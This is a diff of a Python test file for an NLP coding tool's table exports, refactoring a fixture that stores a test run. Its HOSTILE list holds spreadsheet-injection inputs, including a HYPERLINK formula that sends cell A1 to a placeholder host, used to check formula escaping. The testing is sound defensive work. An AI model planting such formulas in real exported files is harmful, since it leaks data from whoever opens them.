@@ -18,7 +18,6 @@ import pytest
 from nlp_theming import Project
 from nlp_theming.exchange.coded import read_coded_units_csv, read_span_csv, write_coded_units_csv, write_span_csv
 from nlp_theming.review import accept
-from nlp_theming.store.runs import ProposalRows, RunSpec, claim_run, complete_run
 from nlp_theming.tables import (
     FORMULA_START,
     formula_safe,
@@ -27,6 +26,7 @@ from nlp_theming.tables import (
     write_table,
     write_xlsx,
 )
+from tests.helpers.runs import store_run
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+44 20 7946 0000", "-1+2", "@SUM(A1:A9)"]
 
@@ -94,11 +94,8 @@ def hostile_project(tmp_path: Path) -> Project:
     segs = p.segments()
     segs = segs[segs.speaker_role == "participant"]
     assert len(segs) == 3
-    spec = RunSpec("test-vectors", 1, "semisupervised", p.segmenter().scheme, {}, "hostile", 0, 0)
-    run_id = claim_run(p.con, spec)
-    rows = [(int(s), "=Danger", 0.9, 1, "test") for s in segs.segment_id]
-    rows += [(int(s), "Workload", 0.3, 2, "test") for s in segs.segment_id]
-    complete_run(p.con, run_id, rows, [ProposalRows("-x", [], [])], len(segs))
+    run_id = store_run(p, [(s, code, score) for s in segs.segment_id for code, score in (("=Danger", 0.9),
+                                                                                         ("Workload", 0.3))])
     for s in segs.segment_id:
         accept(p.con, "ana", int(s), "=Danger", run_id)
     yield p
